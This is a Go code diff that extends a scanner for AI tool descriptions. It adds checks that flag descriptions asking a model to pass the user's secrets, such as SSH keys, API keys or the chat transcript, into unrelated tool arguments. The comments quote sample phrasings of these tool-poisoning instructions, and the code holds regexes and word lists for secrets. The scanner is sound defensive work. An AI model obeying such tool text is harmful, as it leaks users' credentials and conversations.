+// the tool runs commands itself (an argument named command, cmd,
+// script or shell): a terminal tool's own usage, not a rule for another
+// tool.
+func othersCommands(c *checker, p *pattern, sentence string, m []int) *rules.Rule {
+	for _, a := range []string{"command", "commands", "cmd", "script", "shell", "shell_command"} {
+		if c.own(a) {
+			return nil
+		}
+	}
+	return p.rule
 }
 
 // exfiltrated keeps a common secret (a token, a password, .env) only when
@@ -670,11 +843,86 @@ func exfiltrated(c *checker, p *pattern, sentence string, m []int) *rules.Rule {
 		return nil
 	}
 	sentence = verbNouns(sentence)
-	if c.affirmed(sentence, contentRE) || c.affirmed(sentence, readRE) && c.affirmed(sentence, sendRE) {
+	if c.affirmed(sentence, contentRE) || c.affirmed(sentence, readRE) && c.affirmed(sentence, sendRE) ||
+		c.askedInto(sentence, m[0]) || c.describesArg(sentence, m, true) {
 		return p.rule
 	}
 	return nil
 }
+
+// askedInto: the secret at sentence[a:] is the user's ("the user's SSH
+// private key", "your OPENAI_API_KEY") and the sentence sends it into one
+// of the tool's arguments not named for a secret ("pass ... as note",
+// "include ... in note"): a secret asked for by name, no read needed.
+// "Pass your API key as api_key" names the argument that takes it.
+func (c *checker) askedInto(sentence string, a int) bool {
+	for a > 0 && identByte(sentence[a-1]) {
+		a--
+	}
+	if !usersRE.MatchString(sentence[:a]) || !c.affirmed(sentence, sendVerbRE) {
+		return false
+	}
+	for _, m := range asArgRE.FindAllStringSubmatch(sentence[a:], -1) {
+		if c.own(m[1]) && !secretPlace(m[1]) {
+			return true
+		}
+	}
+	return false
+}
+
+// secretPlace: an argument's name says a secret goes there: named for
+// one (secretArgument), or a place a request carries one in (headers,
+// authorization, a personal access token, a login): "include your API
+// token in headers" in an HTTP tool.
+func secretPlace(name string) bool {
+	if secretArgument(name) {
+		return true
+	}
+	for _, w := range nameWords(name) {
+		if carrierWords[w] {
+			return true
+		}
+	}
+	return false
+}
+
+var carrierWords = wordSet("header headers authorization auth authentication bearer pat apikey api login pass pwd passwd jwt session cookie cookies env environment seed mnemonic wallet aws")
+
+// describesArg: the sentence, in an argument's description, is the name
+// of the thing at m (held text, or with secret the user's secret): "The
+// full transcript of this chat so far.", "The user's AWS secret access
+// key.". The model fills an argument as its description says, as if
+// "pass it as note" were written. An argument named for what it takes
+// (private_key, password, system_prompt, conversation) is the owner's
+// business, read by the name rules.
+func (c *checker) describesArg(sentence string, m []int, secret bool) bool {
+	if c.argDesc == "" || m[0] > 60 || !nounHeadRE.MatchString(sentence[:m[0]]) {
+		return false
+	}
+	if secret {
+		return usersRE.MatchString(sentence[:m[0]]) && !secretPlace(c.argDesc)
+	}
+	if strings.Contains(sentence[m[0]:m[1]], "system") && !strings.Contains(sentence, "you") {
+		return false // a system prompt, whose? an agent's a tool builds
+	}
+	for _, w := range nameWords(c.argDesc) {
+		if heldArgWords[w] {
+			return false
+		}
+	}
+	return true
+}
+
+var (
+	usersRE    = re(`\b(?:the\s+user'?s?|your|their)\s+(?:[\w-]+\s+){0,3}$`)
+	sendVerbRE = re(`\b` + sendVerb + `\b`)
+	// nounHeadRE is what may come before the thing a description names:
+	// determiners, adjectives of wholeness, a list or copy of it, whose.
+	nounHeadRE = re(`^\s*(?:(?:the|a|an|all|of|full|entire|whole|complete|raw|exact|verbatim|list|copy|text|contents?|output|current|user'?s?|users'|your|their|aws|gcp|azure|github|openai|ssh)\s+){0,6}$`)
+	// heldArgWords name an argument for what it takes (the name rules'
+	// business).
+	heldArgWords = wordSet("conversation conversations history transcript prompt prompts instructions instruction messages chat context tools")
+)
 
 // notTheSecret: the match at sentence[a:b] lies in an identifier that
 // names no secret: a public key or token ("public_key"), or one of the
